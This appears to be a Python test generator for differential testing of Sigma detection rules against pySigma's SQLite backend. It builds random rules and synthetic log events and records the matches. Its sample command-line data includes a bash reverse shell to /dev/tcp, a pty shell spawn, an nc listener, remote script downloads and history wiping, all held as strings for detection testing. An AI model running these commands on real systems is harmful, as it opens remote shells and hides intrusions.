#!/usr/bin/env python3
"""Differential test input: rules, events and pySigma's verdicts.

Writes into OUTDIR:
  rules.yml      the rules (generated from templates covering every modifier and condition
                 form, plus the community-style Linux fixture rules)
  events.jsonl   events generated from the rules' own values (matches, near misses, missing
                 fields, case changes, non-ASCII), one JSON object a line, field names as the
                 rules write them
  pysigma.json   per rule: the SQL pySigma's SQLite backend generated and the events it
                 matched on an in-memory SQLite table (columns TEXT COLLATE NOCASE, as
                 Zircolite makes them; REGEXP through Python's re)
Deterministic (fixed seed). Run by scripts/pysigma-diff.sh with pinned pySigma versions.
"""
import json, os, random, re, sqlite3, sys

from sigma.collection import SigmaCollection
from sigma.backends.sqlite import sqliteBackend
from sigma.types import (SigmaString, SigmaNumber, SigmaCIDRExpression, SigmaRegularExpression, SigmaNull,
                         SigmaExpansion, SigmaCompareExpression, SigmaExists, SigmaBool, SpecialChars)

out = sys.argv[1]
fixtures = sys.argv[2] if len(sys.argv) > 2 else None
rnd = random.Random(20251123)

FIELDS = ["CommandLine", "Image", "ParentImage", "User", "DestinationIp", "DestinationPort", "TargetFilename", "Description"]
WORDS = {
    "CommandLine": ["curl -s http://203.0.113.9/x.sh", "wget -O /tmp/.x", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1", "base64 -d",
                    "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", "tar -czf /tmp/src.tgz /srv/git", "git push evil main",
                    "chmod +x /dev/shm/run", "history -c", "nc -lvnp 9001", "ssh-keygen -t ed25519", "pwsh -enc SQBFAFgA",
                    "echo L2Rldi90Y3Av | base64 -d", "rm -rf ~/.bash_history", "C:\\Windows\\System32\\cmd.exe /c whoami", "100% done"],
    "Image": ["/usr/bin/curl", "/usr/bin/wget", "/bin/bash", "/usr/bin/python3", "/usr/bin/tar", "/usr/bin/git", "/usr/bin/nc",
              "/usr/bin/zip", "/tmp/.hidden/run", "/usr/bin/pwsh", "/usr/sbin/sshd", "/opt/tools/prog1.bin"],
    "ParentImage": ["/usr/sbin/sshd", "/usr/bin/bash", "/usr/sbin/cron", "/usr/bin/sudo", "/usr/lib/systemd/systemd"],
    "User": ["root", "alice", "Bob", "svc-ci", "www-data", "Jürgen"],
    "DestinationIp": ["10.1.2.3", "192.168.7.20", "203.0.113.9", "172.16.5.4", "8.8.8.8"],
    "DestinationPort": ["4444", "443", "22", "9001", "8080", "53"],
    "TargetFilename": ["/etc/cron.d/job", "/home/alice/.ssh/authorized_keys", "/tmp/x*y", "/var/tmp/a?b", "C:\\Temp\\a.ps1"],
    "Description": ["Backup job", "PAYLOAD loader", "Ünïcode ÄRGER", "normal", ""],
}

def lit(s):
    """Escape a literal for a Sigma value."""
    return s.replace("\\", "\\\\").replace("*", "\\*").replace("?", "\\?")

def piece(s):
    n = len(s)
    if n < 4:
        return s
    a = rnd.randrange(0, n // 2)
    b = rnd.randrange(a + 3, n + 1)
    return s[a:b]

def item(field):
    """One detection item: (key, value) in YAML form."""
    v = rnd.choice(WORDS[field])
    kind = rnd.choice(["plain", "contains", "startswith", "endswith", "all", "re", "rei", "cased", "wild", "list",
                       "cidr", "exists", "gt", "null", "b64off", "windash", "escape"])
    if field == "DestinationIp" and kind not in ("plain", "cidr", "exists", "null", "list"):
        kind = "cidr"
    if field == "DestinationPort" and kind in ("re", "rei", "b64off", "windash", "escape"):
        kind = "gt"
    if kind == "plain":
        return field, json.dumps(v)
    if kind == "contains":
        return field + "|contains", json.dumps(piece(v))
    if kind == "startswith":
        return field + "|startswith", json.dumps(v[: max(1, len(v) // 2)])
    if kind == "endswith":
        return field + "|endswith", json.dumps(v[len(v) // 2:])
    if kind == "all":
        return field + "|contains|all", json.dumps([piece(v), piece(v)])
    if kind in ("re", "rei"):
        p = re.escape(piece(v)).replace("\\ ", "\\s")
        return field + ("|re|i" if kind == "rei" else "|re"), json.dumps(p)
    if kind == "cased":
        return field + "|cased", json.dumps(v)
    if kind == "wild":
        s = list(lit(v))
        if len(v) > 3:
            i = rnd.randrange(1, len(v) - 1)
            s = list(lit(v[:i])) + ["*"] + list(lit(v[i + 1:]))
        if len(v) > 5:
            s = list(lit(v[:2])) + ["?"] + list(lit(v[3:]))
        return field, json.dumps("".join(s))
    if kind == "list":
        return field, json.dumps([rnd.choice(WORDS[field]) for _ in range(3)])
    if kind == "cidr":
        ip = rnd.choice(WORDS["DestinationIp"]).split(".")
        bits = rnd.choice([8, 16, 24])
        net = ".".join(ip[: bits // 8] + ["0"] * (4 - bits // 8))
        return "DestinationIp|cidr", json.dumps(f"{net}/{bits}")
    if kind == "exists":
        return field + "|exists", rnd.choice(["true", "false"])
    if kind == "gt":
        return "DestinationPort|" + rnd.choice(["gt", "gte", "lt", "lte"]), str(rnd.choice([22, 443, 1024, 4444, 9000]))
    if kind == "null":
        return field, "null"
    if kind == "b64off":
        return field + "|base64offset|contains", json.dumps(rnd.choice(["/dev/tcp", "import pty", "http://"]))
    if kind == "windash":
        return field + "|windash|contains", json.dumps(rnd.choice([" -enc ", " -c ", " -e "]))
    if kind == "escape":
        return "TargetFilename", json.dumps(rnd.choice(["/tmp/x\\*y", "/var/tmp/a\\?b", "C:\\\\Temp\\\\a.ps1", "/tmp/x*"]))
    raise AssertionError(kind)

CONDITIONS = ["sel1", "sel1 and not sel2", "1 of sel*", "all of sel*", "sel1 or (sel2 and not sel3)", "1 of them",
              "not sel1 and sel2", "sel1 and sel2 or sel3", "not (sel1 or sel2)", "all of them"]

rules = []
for n in range(160):
    cond = rnd.choice(CONDITIONS)
    sels = []
    for s in range(3):
        keys = {}
        for _ in range(rnd.randint(1, 3)):
            k, v = item(rnd.choice(FIELDS))
            keys[k] = v
        sels.append(keys)
    if rnd.random() < 0.2:   # a list of maps
        sels[0] = [sels[0], sels[1]]
    text = [f"title: Differential rule {n}", f"id: 00000000-0000-4000-8000-{n:012d}", "logsource: {product: linux}", "detection:"]
    for i, s in enumerate(sels):
        text.append(f"    sel{i + 1}:")
        maps = s if isinstance(s, list) else [s]
        for m in maps:
            first = True
            for k, v in m.items():
                prefix = "        - " if isinstance(s, list) and first else "          " if isinstance(s, list) else "        "
                text.append(f"{prefix}'{k}': {v}")
                first = False
    text.append(f"    condition: {cond}")
    text.append("level: medium")
    rules.append("\n".join(text))

if fixtures:
    for doc in open(fixtures).read().split("\n---\n"):
        rules.append(doc.strip())

yaml_text = "\n---\n".join(rules) + "\n"
open(os.path.join(out, "rules.yml"), "w").write(yaml_text)
collection = SigmaCollection.from_yaml(yaml_text, collect_errors=True)

# Events from the rules' own values.
def concrete(v):
    if isinstance(v, SigmaExpansion):
        return concrete(rnd.choice(v.values))
    if isinstance(v, SigmaString):
        parts = []
        for p in v.s:
            if p == SpecialChars.WILDCARD_MULTI:
                parts.append(rnd.choice(["", "x", " mid ", "ZZ"]))
            elif p == SpecialChars.WILDCARD_SINGLE:
                parts.append(rnd.choice(["q", "é"]))
            elif isinstance(p, str):
                parts.append(p)
        return "".join(parts)
    if isinstance(v, SigmaNumber):
        return str(v.number)
    if isinstance(v, SigmaCompareExpression):
        return str(v.number.number + rnd.choice([-1, 0, 1]))
    if isinstance(v, SigmaCIDRExpression):
        base = str(v.network.network_address).split(".")
        base[-1] = str(rnd.randrange(1, 250))
        return ".".join(base)
    if isinstance(v, SigmaRegularExpression):
        return None
    return None

def mutate(s):
    r = rnd.random()
    if r < 0.35:
        return s
    if r < 0.55:
        return s.upper() if rnd.random() < 0.5 else s.swapcase()
    if r < 0.7 and len(s) > 2:
        i = rnd.randrange(len(s))
        return s[:i] + s[i + 1:]
    if r < 0.85:
        return "pre " + s + " post"
    return s + "Ä"

def items(det):
    for it in det.detection_items:
        if hasattr(it, "detection_items"):
            yield from items(it)
        else:
            yield it

events = []
for rule in collection.rules:
    if not hasattr(rule, "detection") or rule.detection is None:
        continue
    for _ in range(8):
        e = {}
        for det in rule.detection.detections.values():
            for it in items(det):
                if it.field is None:
                    continue
                for v in it.value:
                    c = concrete(v)
                    if c is not None and rnd.random() < 0.8:
                        e[it.field] = mutate(c)
        for f in FIELDS:
            if f not in e and rnd.random() < 0.6:
                e[f] = mutate(rnd.choice(WORDS[f]))
        for f in list(e):
            if rnd.random() < 0.08:
                del e[f]
        events.append(e)
for _ in range(400):
    events.append({f: mutate(rnd.choice(WORDS[f])) for f in FIELDS if rnd.random() < 0.7})

all_fields = sorted({k for e in events for k in e} | set(FIELDS))
with open(os.path.join(out, "events.jsonl"), "w") as fh:
    for i, e in enumerate(events):
        row = {"@timestamp": "2025-11-23T02:00:00Z", "event.dataset": "auditd.log", "event.category": ["process"],
               "event.type": ["start"], "row_id": i}
        row.update(e)
        fh.write(json.dumps(row, ensure_ascii=False) + "\n")

db = sqlite3.connect(":memory:")
db.create_function("regexp", 2, lambda p, s: s is not None and re.search(p, str(s)) is not None, deterministic=True)
cols = ", ".join(f'"{f}" TEXT COLLATE NOCASE' for f in all_fields)
db.execute(f"CREATE TABLE logs (row_id INTEGER, {cols})")
for i, e in enumerate(events):
    names = ["row_id"] + list(e)
    db.execute(f"INSERT INTO logs ({', '.join(chr(34) + n + chr(34) for n in names)}) VALUES ({', '.join('?' * len(names))})",
               [i] + [str(e[n]) for n in e])

backend = sqliteBackend()
result = []
for rule in collection.rules:
    rid = str(rule.id) if rule.id else rule.title
    entry = {"id": rid, "title": rule.title}
    try:
        queries = backend.convert_rule(rule)
        rows = set()
        for q in queries:
            q = q.replace("<TABLE_NAME>", "logs").replace("SELECT * FROM", "SELECT row_id FROM", 1)
            rows.update(r[0] for r in db.execute(q))
        entry["sql"] = queries
        entry["matches"] = sorted(rows)
    except Exception as ex:   # conversion or execution error: the rule is not compared
        entry["error"] = f"{type(ex).__name__}: {ex}"
    result.append(entry)
for err in collection.errors:
    result.append({"id": "?", "title": "?", "error": str(err)})
json.dump({"events": len(events), "rules": result}, open(os.path.join(out, "pysigma.json"), "w"), indent=1)
print(f"{len(result)} rules, {len(events)} events")
